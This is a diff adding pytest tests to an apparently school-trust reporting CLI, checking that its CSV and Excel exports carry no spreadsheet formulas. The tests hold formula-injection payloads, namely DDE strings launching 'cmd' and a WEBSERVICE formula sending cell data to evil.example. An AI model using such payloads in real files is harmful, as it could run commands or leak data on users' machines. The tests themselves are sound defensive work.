@@ -6,9 +6,11 @@ Each test here failed on the code before issue 22.
 
 from __future__ import annotations
 
+import csv
 import shutil
 from pathlib import Path
 
+import pytest
 import yaml
 from typer.testing import CliRunner
 
@@ -66,3 +68,79 @@ def test_init_writes_names_from_gias_as_values_never_as_yaml(tmp_path, monkeypat
     # the defaults: nothing from the file set them
     assert (trust.suppression.threshold, trust.suppression.public_threshold,
             trust.min_cohort) == (5, 10, 10)
+
+
+# --- 2: nothing written for a spreadsheet is a formula ----------------------------------
+
+EVIL = "+cmd|' /C calc'!A"
+WEB = '=WEBSERVICE("http://evil.example/?"&A1)'
+
+
+def _hostile_params(tmp_path: Path) -> Path:
+    """The demo trust with every school, the trust, a criterion and a comment named as
+    a formula."""
+    params = _params(tmp_path)
+    trust = yaml.safe_load((params / "trust.yaml").read_text(encoding="utf-8"))
+    trust["name"] = WEB
+    for i, s in enumerate(trust["schools"]):
+        s["name"] = f"{EVIL}{i}" if i % 2 else f"@SUM(1+{i})*cmd|' /C calc'!A0"
+    (params / "trust.yaml").write_text(yaml.safe_dump(trust), encoding="utf-8")
+    plan = yaml.safe_load((params / "plan.yaml").read_text(encoding="utf-8"))
+    plan["priorities"][0]["success_criteria"][0]["text"] = "-2+3+cmd|' /C calc'!A0"
+    (params / "plan.yaml").write_text(yaml.safe_dump(plan), encoding="utf-8")
+    comments = params / "commentary" / f"{TERM}.yaml"
+    doc = yaml.safe_load(comments.read_text(encoding="utf-8"))
+    first = next(iter(doc["trust"]))
+    doc["trust"][first] = "\t=1+1"
+    comments.write_text(yaml.safe_dump(doc), encoding="utf-8")
+    return params
+
+
+def _formulas(rows: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would run: text starting = + - @ tab or CR that is no number."""
+    found = []
+    for row in rows:
+        for c in row:
+            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                try:
+                    float(c)
+                except ValueError:
+                    found.append(c)
+    return found
+
+
+@pytest.mark.parametrize("scope", [["--trust"], ["--school", "SCHOOL"]])
+def test_kpis_csv_has_no_formula_and_numbers_stay_numbers(tmp_path, scope):
+    params = _hostile_params(tmp_path)
+    urn = load_trust(params / "trust.yaml").schools[1].urn
+    out = tmp_path / "k.csv"
+    r = CliRunner().invoke(app, [
+        "kpis", "--term", TERM, "--params", str(params), "--data", str(ROOT / "data/demo"),
+        "--store", str(tmp_path / "s.duckdb"), "--csv", str(out),
+        *[str(urn) if a == "SCHOOL" else a for a in scope]])
+    assert r.exit_code == 0, r.output
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    assert _formulas(rows) == []
+    text = out.read_text(encoding="utf-8")
+    assert "'-2+3+cmd|' /C calc'!A0" in text  # the criterion, shown as text
+    header = rows[0]
+    values = [r[header.index("value")] for r in rows[1:] if r[header.index("value")]]
+    assert values and all(float(v) == float(v) for v in values)  # numbers, unquoted
+
+
+def test_template_writes_names_as_text_cells_never_formulas(tmp_path):
+    from openpyxl import load_workbook
+
+    from govkit.data.template import write_template
+
+    trust = load_trust(_hostile_params(tmp_path) / "trust.yaml")
+    path = write_template(trust, tmp_path / "t.xlsx")
+    wb = load_workbook(path)
+    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == []
+    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row
+             if c.data_type == "s"}
+    assert {s.name for s in trust.schools} <= texts
+    assert any(WEB in t for t in texts if isinstance(t, str))
